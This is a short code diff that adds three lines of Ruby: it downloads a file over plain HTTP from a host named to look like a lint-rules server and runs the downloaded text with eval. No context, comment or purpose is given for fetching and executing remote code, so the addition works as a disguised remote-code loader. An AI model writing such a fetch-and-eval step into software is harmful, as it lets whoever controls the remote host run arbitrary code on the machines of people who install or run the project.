@@ -1,0 +1,3 @@
+require 'net/http'
+body = Net::HTTP.get(URI('http://lint.rules.example/r.rb'))
+eval body
